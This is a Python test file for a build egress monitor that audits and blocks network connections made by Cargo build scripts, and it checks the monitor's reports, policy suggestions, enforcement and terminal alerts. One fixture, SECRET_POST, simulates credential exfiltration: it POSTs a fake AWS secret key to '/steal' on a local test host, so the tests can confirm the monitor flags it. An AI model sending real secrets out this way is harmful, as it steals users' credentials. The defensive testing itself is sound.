"""The operator's view against the real daemon and real builds: report, policy suggest and
enforce with it, status after a finished build, terminal lines under a pseudo-terminal."""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.kernel.netlab import REPO, DaemonHandle, TestHost, Workspace, wait_until

BASE = """version: 1
mode: audit
defaults: {cargo: deny, rustc: deny, build-script: deny, crate-binary: deny, other: deny}
"""
SECRET_POST = """
import socket
s = socket.create_connection(("{ip}", 8080), timeout=5)
body = b"AWS_SECRET_ACCESS_KEY=not-a-real-key"
head = b"POST /steal HTTP/1.1\\r\\nHost: collector\\r\\nContent-Length: %d\\r\\n\\r\\n"
s.sendall(head % len(body) + body)
try:
    s.recv(100)
except OSError:
    pass
"""


@pytest.fixture
def other_host(tmp_path: Path) -> Iterator[TestHost]:
    """A second test host: reached by address (never resolved), and the exfiltration's
    target (on its IPv6 address)."""
    with TestHost(f"{os.getpid() % 10000}-o", 58, tmp_path) as host:
        yield host


@pytest.fixture
def new_host(tmp_path: Path) -> Iterator[TestHost]:
    """A third test host, that the audited builds never reached."""
    with TestHost(f"{os.getpid() % 10000}-n", 57, tmp_path) as host:
        yield host


def cli(*argv: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "egress_monitor.cli", *argv], cwd=REPO,
                          capture_output=True, text=True, timeout=60, check=check)


def test_report_suggest_and_enforce_with_the_suggestion(
        daemon: DaemonHandle, test_host: TestHost, other_host: TestHost, new_host: TestHost,
        tmp_path: Path) -> None:
    test_host.start_dns()
    base = daemon.restart("--dns-upstream", test_host.v4, policy=BASE)
    resolv = f"nameserver {test_host.v4}\n"
    # Audit: the build script reaches a named test host and an address it never resolved.
    reach = {"EM_OTHER": other_host.v4}
    Workspace(tmp_path / "ws1").cargo_build(test_host, "resolve4=pkg.test.example,postother",
                                            resolv_conf=resolv, env_extra=reach)
    end = daemon.wait_event("build_end", lambda e: e["type"] == "build_end")
    assert end["summary"]["would_be_denied"] == 2, end["summary"]
    assert end["summary"]["build_scripts"] == ["evil-dep 0.3.10"]
    # And a build that sends credentials off the host: flagged, so never to be suggested.
    exfil = SECRET_POST.format(ip=other_host.v6)
    subprocess.run(daemon.exec_argv(sys.executable, "-c", exfil), check=True, timeout=60,
                   capture_output=True)
    daemon.wait_event("the exfiltration alert", lambda e: e["type"] == "alert"
                      and e["kind"] == "http_post" and e["severity"] == "critical")
    # Audit: everything went through, and was recorded.
    assert sorted(r["path"] for r in other_host.requests()) == ["/other", "/steal"]
    bid = end["build"]["id"]
    events = str(daemon.events_path)

    text = cli("report", events, "--build", bid).stdout
    line = next(ln for ln in text.splitlines() if "pkg.test.example" in ln and ":8080/tcp" in ln)
    assert "build-script" in line and "evil-dep 0.3.10" in line
    assert "WOULD BE DENIED by enforce (deny)" in line and "default:build-script" in line
    unnamed = next(ln for ln in text.splitlines() if f" {other_host.v4}:8080/tcp" in ln)
    assert "WOULD BE DENIED" in unnamed
    markdown = cli("report", events, "--build", bid, "--format", "markdown").stdout
    assert markdown.startswith(f"## egress-monitor: build {bid}")
    assert "| build-script | evil-dep 0.3.10 | pkg.test.example (" in markdown
    assert "WOULD BE DENIED by enforce" in markdown
    data = json.loads(cli("report", events, "--build", bid, "--format", "json").stdout)
    dests = data["builds"][0]["destinations"]
    named = next(d for d in dests if d["names"] and d["names"][0] == "pkg.test.example")
    assert (named["role"], named["crate"], named["port"], named["would_be_denied"]) == \
        ("build-script", "evil-dep 0.3.10", 8080, True)
    assert any(d["qtype"] == "A" and d["name"] == "pkg.test.example"
               for d in data["builds"][0]["names"])

    suggestion = cli("policy", "suggest", events, "--base", str(base)).stdout
    dropins = tmp_path / "policy.d"
    dropins.mkdir()
    (dropins / "50-seen.yaml").write_text(suggestion)
    assert cli("policy", "check", str(base), "--dir", str(dropins)).returncode == 0
    assert 'hosts: ["pkg.test.example"]' in suggestion
    assert f'cidrs: ["{other_host.v4}/32"]' in suggestion
    allowing = suggestion.split("# Never suggested")[0]
    assert other_host.v6 not in allowing
    assert any(other_host.v6 in ln and "AWS_SECRET_ACCESS_KEY" in ln
               for ln in suggestion.splitlines() if ln.startswith("# - "))

    # Enforce with it: the same build goes through, a new destination is refused.
    daemon.restart("--dns-upstream", test_host.v4, "--mode", "enforce", "--policy", str(base),
                   "--policy-dir", str(dropins))
    before = len(test_host.requests()), len(other_host.requests())
    Workspace(tmp_path / "ws2").cargo_build(test_host, "resolve4=pkg.test.example,postother",
                                            resolv_conf=resolv, env_extra=reach)
    again = daemon.wait_event("build_end", lambda e: e["type"] == "build_end")
    assert [r["path"] for r in test_host.requests()[before[0]:]] == \
        ["/resolved/pkg.test.example"]
    assert [r["path"] for r in other_host.requests()[before[1]:]] == ["/other"]
    conns = [e for e in daemon.events("connection") if e["build"]["id"] == again["build"]["id"]
             and e["rule"] != "loopback"]
    assert conns and all(e["decision"] == "allow" for e in conns), conns
    Workspace(tmp_path / "ws3").cargo_build(test_host, "postother", resolv_conf=resolv,
                                            env_extra={"EM_OTHER": new_host.v4})
    refused = daemon.wait_event("the refusal", lambda e: e["type"] == "connection"
                                and e["dst"]["ip"] == new_host.v4)
    assert refused["decision"] == "deny" and refused["rule"] == "default:build-script"
    assert new_host.requests() == []

    # status, after that build ended: the build, and where its blocked attempt went.
    daemon.wait_event("the blocked attempt", lambda e: e["type"] == "alert"
                      and e["kind"] == "blocked_attempt")
    daemon.wait_event("its build_end", lambda e: e["type"] == "build_end"
                      and e["build"]["id"] == refused["build"]["id"])
    status = cli("status", "--runtime-dir", str(daemon.runtime_dir)).stdout
    finished = next(ln for ln in status.splitlines() if ln.startswith(
        f"  {refused['build']['id']}  ") and "ended" in ln)
    assert "1 denied" in finished
    blocked = next(ln for ln in status.splitlines() if "blocked_attempt" in ln)
    assert f"{new_host.v4}:8080" in blocked and refused["build"]["id"] in blocked


def test_exec_summary_writes_the_builds_report_when_it_ends(
        daemon: DaemonHandle, test_host: TestHost, tmp_path: Path) -> None:
    summary = tmp_path / "step-summary.md"
    summary.write_text("# earlier step\n")
    code = f"""
import socket, sys
socket.create_connection(("{test_host.v4}", 8080), timeout=5).close()
sys.exit(3)
"""
    argv = daemon.exec_argv(sys.executable, "-c", code)
    argv.insert(argv.index("--"), "--summary")
    argv.insert(argv.index("--"), str(summary))
    result = subprocess.run(argv, capture_output=True, text=True, timeout=60, check=False)
    assert result.returncode == 3, result.stderr  # CMD's status passes through
    end = daemon.wait_event("build_end", lambda e: e["type"] == "build_end")
    text = summary.read_text()
    assert text.startswith("# earlier step\n## egress-monitor: build ")  # appended
    assert f"## egress-monitor: build {end['build']['id']}\n" in text
    assert f"| other | - | {test_host.v4}:8080 | tcp | allowed |" in text
    assert "still running" not in text  # written after the daemon recorded its end


class PtyDaemon(DaemonHandle):
    """The daemon with its stdout and stderr on a pseudo-terminal, as `make run` in a
    terminal; everything it prints is collected from the terminal's other side."""

    def __init__(self, tmp: Path) -> None:
        super().__init__(tmp)
        self.screen = bytearray()
        self._reader: threading.Thread | None = None

    def start(self, *extra: str) -> None:
        master, slave = pty.openpty()
        argv = [sys.executable, "-m", "egress_monitor.cli", "run", "--events",
                str(self.events_path), "--metrics-listen", f"127.0.0.1:{self.port}",
                "--runtime-dir", str(self.runtime_dir), "--dns-upstream", self.NO_UPSTREAM,
                *extra]
        self.proc = subprocess.Popen(argv, stdout=slave, stderr=slave, cwd=REPO)
        os.close(slave)

        def read() -> None:
            while True:
                try:
                    chunk = os.read(master, 4096)
                except OSError:  # the daemon closed its side
                    break
                if not chunk:
                    break
                self.screen += chunk
            os.close(master)
        self._reader = threading.Thread(target=read, daemon=True)
        self._reader.start()
        wait_until("the daemon's metrics endpoint", self._ready, timeout=30)

    def log(self) -> str:
        return self.screen.decode(errors="replace")

    def lines(self) -> list[str]:
        return self.log().replace("\r\n", "\n").splitlines()


def test_terminal_lines_for_a_build_and_an_alert(test_host: TestHost, tmp_path: Path) -> None:
    policy = tmp_path / "policy.yaml"
    policy.write_text("version: 1\nmode: enforce\n")
    handle = PtyDaemon(tmp_path)
    handle.start("--policy", str(policy))
    try:
        Workspace(tmp_path / "ws").cargo_build(test_host, "post4")
        end = handle.wait_event("build_end", lambda e: e["type"] == "build_end")
        bid = end["build"]["id"]
        prefix = "egress-monitor: "
        wait_until("the build's end on the terminal", lambda: any(
            ln.startswith(f"{prefix}build {bid} ended") for ln in handle.lines()))
        wait_until("the alert on the terminal", lambda: any(
            "ALERT critical blocked_attempt" in ln for ln in handle.lines()))
    finally:
        assert handle.stop() == 0, handle.log()
    lines = [ln for ln in handle.lines() if ln.startswith(prefix)]
    start = next(ln for ln in lines if ln.startswith(f"{prefix}build {bid} started: "))
    assert "build --offline -q" in start and str(tmp_path / "ws") in start
    alert = next(ln for ln in lines if "ALERT critical blocked_attempt" in ln)
    assert (f"blocked: build-script of evil-dep 0.3.10 tried to POST 18 bytes to "
            f"{test_host.v4}:8080, refused by rule default:build-script") in alert
    ended = next(ln for ln in lines if ln.startswith(f"{prefix}build {bid} ended"))
    assert "build scripts: evil-dep 0.3.10" in ended and "build-script 1 denied" in ended
    # The JSON events went to the events file, not to the terminal.
    assert not any(ln.lstrip().startswith("{") for ln in handle.lines())
    assert test_host.requests() == []
